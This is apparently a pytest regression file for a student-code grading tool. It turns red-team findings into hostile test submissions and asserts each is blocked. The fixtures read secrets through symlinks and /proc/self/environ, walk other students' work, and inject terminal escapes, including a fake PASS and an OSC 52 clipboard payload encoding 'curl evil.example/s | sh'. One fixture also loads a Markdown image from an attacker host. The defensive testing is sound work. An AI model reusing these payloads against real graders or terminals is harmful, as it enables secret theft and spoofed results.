"""redteam27's findings on ``gradcheck check --isolation namespaces`` and on untrusted text reaching a screen, each
with the hostile submission, through the real CLI.

M1: under ``--isolation namespaces`` ("for a file you did not write") the copy followed symbolic links beside the
file: ``notes.py -> <the TA's 0600 file>`` and ``env_notes.py -> /proc/self/environ`` were read with the TA's rights
and printed. Now the grader's copy rule holds (``lstat``/``O_NOFOLLOW``): not read, a warning says so.
M2: the own-code package search (working directory and above) copied any package the file names, even in an import
that never runs: a student's file checked from the course folder read ``solution/`` and another student's work.
Under namespaces the file sees its own folder alone; a warning names what was left out and how to check such a file.
M3, L2: what the checked code prints, a source line the float64-copy note quotes and the import-timeout message's
top-level lines reached the terminal raw (ESC[2J, a fake green PASS, OSC 52) and results.json's Markdown raw (an
image from the submitter's server). L1: a 60,000-term sum crashed check with a traceback and exit 1 (FAIL's code).
L3: as root in a user namespace without the sandbox uids the refusal blamed the kernel and Docker's seccomp.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
INIT = '{"in_features": 5, "out_features": 3}'
ESC = "\x1b"


def _gradcheck(*args, cwd=None, env=None, prefix=()):
    out = subprocess.run([*prefix, sys.executable, "-m", "gradcheck", *map(str, args)], capture_output=True,
                         text=True, timeout=300, cwd=cwd, env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})})
    return out.returncode, out.stdout + out.stderr


def _check(target, *more, **kw):
    return _gradcheck("check", target, "--input-shape", "8,5", "--init", INIT, *more, **kw)


def _namespaces():
    from gradcheck.sandbox import support

    if support()[0] == "none":
        pytest.skip(f"no namespaces sandbox here: {support()[1]}")


LEAKY = '''import numpy as np


def _peek(name):
    try:
        with open(name, "rb") as fh:
            return fh.read(300).replace(b"\\0", b" ")
    except OSError as e:
        return repr(e)


LEAK = {n: _peek(n) for n in ("notes.py", "env_notes.py")}


class Linear:
    def __init__(self, in_features, out_features, rng=None):
        self.params = {"W": np.ones((out_features, in_features)), "b": np.zeros(out_features)}
        self.grads = {}

    def forward(self, X, training=False):
        raise RuntimeError(f"LEAK {LEAK}")

    def backward(self, dY):
        return dY
'''


def test_links_beside_a_file_checked_in_namespaces_are_not_followed(tmp_path):
    """M1: the TA's private file and gradcheck's own environment are not read through links beside the checked file;
    the code gets FileNotFoundError and a warning names each link, as ``gradcheck grade`` does."""
    _namespaces()
    secret = tmp_path / "ta_secret.txt"
    secret.write_text("TA-PRIVATE-KEY-rt27\n")
    secret.chmod(0o600)
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "layers.py").write_text(LEAKY)
    (sub / "notes.py").symlink_to(secret)
    (sub / "env_notes.py").symlink_to("/proc/self/environ")
    code, said = _check(f"{sub / 'layers.py'}::Linear", "--isolation", "namespaces",
                        env={"RT27_TOKEN": "gradescope-api-token-xyz"})
    flat = " ".join(said.split())
    assert code == 3, said
    assert "TA-PRIVATE-KEY" not in said and "gradescope-api-token-xyz" not in said, said
    assert "'notes.py': \"FileNotFoundError" in flat and "'env_notes.py': \"FileNotFoundError" in flat, said
    for name in ("notes.py", "env_notes.py"):
        assert f"{name} beside layers.py was not read: it is a symbolic link" in flat, said


def test_a_checked_file_that_is_a_link_is_refused_in_namespaces(tmp_path):
    """M1: the checked file itself a link (to the staff's solution, say): a usage error naming it, not a check of
    the file it points to."""
    _namespaces()
    (tmp_path / "solution.py").write_text(LEAKY.replace("LEAK = {n: _peek(n) for n in (\"notes.py\", "
                                                        "\"env_notes.py\")}", "LEAK = 'solution'"))
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "layers.py").symlink_to(tmp_path / "solution.py")
    code, said = _check(f"{sub / 'layers.py'}::Linear", "--isolation", "namespaces")
    assert code == 2 and "LEAK solution" not in said, said
    assert "layers.py cannot be checked: it is a symbolic link" in " ".join(said.split()), said


WALKER = '''import os

import numpy as np

import sys
sys.path.append(os.pardir)
if False:  # dead imports: the one import scan (gradcheck._import_scan) does not follow them
    import solution  # noqa: F401
    import subs  # noqa: F401
try:
    import bob  # noqa: F401
except ImportError:
    pass


def _walk():
    out = []
    for top in ("solution", "subs", "bob"):
        for d, _, fs in os.walk(top):
            for f in fs:
                with open(os.path.join(d, f)) as fh:
                    out.append(f"{d}/{f}: {fh.read().strip()[:60]!r}")
    return out


SEEN = _walk()


class Linear:
    def __init__(self, in_features, out_features, rng=None):
        self.params = {"W": np.ones((out_features, in_features)), "b": np.zeros(out_features)}
        self.grads = {}

    def forward(self, X, training=False):
        raise RuntimeError(f"SEEN {SEEN}")

    def backward(self, dY):
        return dY
'''


def _course(root):
    """A course folder: the staff's ``solution/`` package, bob's submission (a package), alice's hostile file."""
    for rel, text in {"solution/__init__.py": "", "solution/layers.py": 'SECRET = "reference-rt27"\n',
                      "subs/bob/__init__.py": "", "subs/bob/layers.py": 'BOB = "bob-answer-rt27"\n',
                      "subs/alice/layers.py": WALKER}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


@pytest.mark.parametrize("where", ["course", "elsewhere"])
def test_a_file_checked_in_namespaces_sees_its_own_folder_alone(tmp_path, where):
    """M2: alice's file, checked from the course folder (``solution``, ``subs`` in a dead import, ``bob`` in a live one) or from elsewhere
    (``sys.path.append(os.pardir)`` and ``import bob``), reads neither the solution nor bob's work; a warning names
    the packages left out and how to check a file that needs its package."""
    _namespaces()
    _course(tmp_path)
    cwd = tmp_path if where == "course" else tmp_path / "subs" / "bob"
    code, said = _check(f"{tmp_path / 'subs' / 'alice' / 'layers.py'}::Linear", "--isolation", "namespaces", cwd=cwd)
    flat = " ".join(said.split())
    assert code == 3 and "SEEN []" in flat, said
    assert "reference-rt27" not in said and "bob-answer-rt27" not in said, said
    left = [f"{tmp_path / 'subs' / 'bob'}/"]  # (the live import; the dead ones are neither copied nor named)
    assert f"{', '.join(left)}, imported by name in layers.py, w" in flat, said
    assert "check it from the top of its submission" in flat, said


def test_own_code_keeps_the_package_search_and_namespaces_check_a_package_from_the_top(tmp_path):
    """M2's rule, the other side: without --isolation the working directory's package a file imports is copied
    (tester26s M4, a student's own code); under namespaces the file that needs it fails to import (exit 3) with the
    warning, and the advice it gives (a file at the top of the submission importing the class) checks it: PASS."""
    _namespaces()
    (tmp_path / "mytorch" / "nn").mkdir(parents=True)
    (tmp_path / "mytorch" / "nn" / "functional.py").write_text("def affine(X, W, b):\n    return X @ W.T + b\n")
    (tmp_path / "mytorch" / "nn" / "linear.py").write_text(
        "import numpy as np\nfrom mytorch.nn.functional import affine\n\n\nclass Linear:\n"
        "    def __init__(self, in_features, out_features):\n"
        "        rng = np.random.default_rng(0)\n"
        "        self.params = {'W': rng.standard_normal((out_features, in_features)), 'b': np.zeros(out_features)}\n"
        "        self.grads = {}\n\n"
        "    def forward(self, X):\n        self.X = X\n        return affine(X, self.params['W'], self.params['b'])\n\n"
        "    def backward(self, dY):\n        self.grads['W'] = dY.T @ self.X\n"
        "        self.grads['b'] = dY.sum(axis=0)\n        return dY @ self.params['W']\n")
    code, said = _check("mytorch/nn/linear.py::Linear", cwd=tmp_path)
    assert code == 0 and "PASS: Linear" in said, said
    code, said = _check("mytorch/nn/linear.py::Linear", "--isolation", "namespaces", cwd=tmp_path)
    flat = " ".join(said.split())
    assert code == 3 and "No module named 'mytorch'" in flat, said
    assert f"{tmp_path / 'mytorch'}/, imported by name in linear.py, was not copied" in flat, said
    (tmp_path / "check_me.py").write_text("from mytorch.nn.linear import Linear  # noqa: F401\n")
    code, said = _check("check_me.py::Linear", "--isolation", "namespaces", cwd=tmp_path)
    assert code == 0 and "PASS: Linear" in said, said


PRINTS_ESC = '''import numpy as np

ESC = "\\x1b"
print(f"{ESC}[40A{ESC}[0J{ESC}[32mPASS: Linear: dX, dW, db match.{ESC}[0m"
      f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo{chr(7)}{ESC}]0;rt27-title{chr(7)}")


class Linear:
    def __init__(self, in_features, out_features, rng=None):
        self.params = {"W": np.ones((out_features, in_features)), "b": np.zeros(out_features)}
        self.grads = {}

    def forward(self, X, training=False):
        raise RuntimeError("this layer is not implemented")

    def backward(self, dY):
        return dY
'''

F32_ESC = '''import numpy as np


class Linear:
    def __init__(self, in_features, out_features, rng=None):
        rng = np.random.default_rng(0)
        W = rng.standard_normal((out_features, in_features)).astype('f')  # \x1b[2J\x1b[H\x1b[32mPASS: all match.\x1b[8m
        self.params = {"W": W, "b": np.zeros(out_features, dtype='f')}
        self.grads = {}

    def forward(self, X, training=False):
        self.X = np.asarray(X, dtype='f')
        return self.X @ self.params["W"].T + self.params["b"]

    def backward(self, dY):
        self.grads["W"] = dY.T @ self.X
        self.grads["b"] = dY.sum(axis=0) * 2
        return dY @ self.params["W"]
'''


@pytest.mark.parametrize("isolation", ["process", "namespaces"])
def test_what_the_checked_code_prints_reaches_the_terminal_escaped(tmp_path, isolation):
    """M3: the printed ESC[40A ESC[0J, green PASS, OSC 52 (clipboard) and OSC 0 (title) are shown as ``\\x1b``...:
    no control character reaches the terminal, and the error and exit 3 stand."""
    if isolation == "namespaces":
        _namespaces()
    (tmp_path / "layers.py").write_text(PRINTS_ESC)
    code, said = _check(f"{tmp_path / 'layers.py'}::Linear", "--isolation", isolation)
    assert code == 3 and "raised RuntimeError: this layer is not implemented" in " ".join(said.split()), said
    assert ESC not in said and "\x07" not in said, repr(said)
    assert "  | \\x1b[40A\\x1b[0J\\x1b[32mPASS: Linear: dX, dW, db match.\\x1b[0m\\x1b]52;c;" in said, said


def test_a_source_line_the_float64_copy_note_quotes_is_escaped(tmp_path):
    """M3's second channel: the float64-copy note quotes the dtype line, whose comment holds ESC[2J ESC[H and a fake
    PASS: shown escaped; the real verdict (db twice the sum) stands."""
    (tmp_path / "layers.py").write_text(F32_ESC)
    code, said = _check(f"{tmp_path / 'layers.py'}::Linear")
    assert code == 1 and "FAIL: Linear: gradient mismatch in db" in said, said
    assert ESC not in said and "\\x1b[2J\\x1b[H\\x1b[32mPASS: all match." in said, repr(said)


def test_a_source_past_the_recursion_limit_is_exit_3_not_a_traceback(tmp_path):
    """L1: a 60,000-term sum in a function never called: the file does not import (exit 3, as for the same sum in
    a helper), not a traceback with exit 1, the code of a FAIL."""
    solution = (ROOT / "assignments" / "linear_relu_ce" / "solution" / "layers.py")
    text = solution.read_text() if solution.is_file() else F32_ESC.replace("'f'", "float")
    (tmp_path / "layers.py").write_text(text + "\n\ndef _never():\n    return " + "+".join(["1"] * 60000) + "\n")
    code, said = _check(f"{tmp_path / 'layers.py'}::Linear")
    flat = " ".join(said.split())
    assert code == 3 and "Traceback" not in said, said
    assert "layers.py does not import: RecursionError" in flat, said


HANG = '''import time

time.sleep(0)  #![t](https://e.vil/t.png) <b>bold</b> **x**
time.sleep(60)  #\x1b[2J\x1b[H\x1b[32mPASS: all gradients match\x1b[8m


class Linear:
    pass
'''


def test_the_import_timeout_quotes_top_level_lines_escaped_on_the_terminal(tmp_path):
    """L2 (check): the import-timeout message's quoted top-level lines, ESC[2J and a fake PASS, are shown escaped."""
    (tmp_path / "layers.py").write_text(HANG)
    code, said = _check(f"{tmp_path / 'layers.py'}::Linear", "--timeout", "2")
    flat = " ".join(said.split())
    assert code == 3 and "calls something at top level (line 3: time.sleep(0)" in flat, said
    assert ESC not in said and "line 4: time.sleep(60) #\\x1b[2J\\x1b[H" in flat, repr(said)


def test_the_import_timeout_quotes_top_level_lines_escaped_in_results_json(tmp_path):
    """L2 (grade): results.json is Markdown: the quoted lines' image, HTML, bold and ESC are escaped as an exception
    message's are, so Gradescope loads no image from the submitter's server."""
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "layers.py").write_text(HANG)
    code, said = _gradcheck("grade", sub, "--single", "--tests", ROOT / "assignments" / "linear_relu_ce" / "tests",
                            "--out", tmp_path / "out", "--seed", "5", "--timeout", "2")
    assert code == 0, said
    outs = [t["output"] for t in json.loads((tmp_path / "out" / "results.json").read_text())["tests"]]
    quoted = [t for t in outs if "calls something at top level" in t]
    assert quoted, outs
    for t in quoted:
        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<b>|(?<!\\)\*\*x", t) and ESC not in t, t
        assert "#![t\\](https\\://e\\.vil/t\\.png) \\<b>bold\\</b> \\*\\*x\\*\\*" in t, t  # (markdown_text's escapes)


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root and unshare(1)")
def test_root_in_a_user_namespace_without_the_sandbox_uids_is_told_so(tmp_path):
    """L3: ``unshare -U -r`` maps root alone, so the root level's drop to uids 62000... cannot work: the refusal
    names that cause and what helps (a user other than root, or the uids mapped), not the kernel or seccomp."""
    probe = subprocess.run(["unshare", "-U", "-r", "true"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip("unshare -U -r is not allowed here")
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "layers.py").write_text("class Linear:\n    pass\n")
    code, said = _gradcheck("grade", sub, "--single", "--tests", ROOT / "assignments" / "linear_relu_ce" / "tests",
                            "--out", tmp_path / "out", "--seed", "5", prefix=("unshare", "-U", "-r"))
    flat = " ".join(said.split())
    assert code == 2, said
    assert "drops to a uid of its own (62000-62255), but this user namespace maps only the uids 0" in flat, said
    assert "run the grader as a user other than root there" in flat and "seccomp" not in flat, said
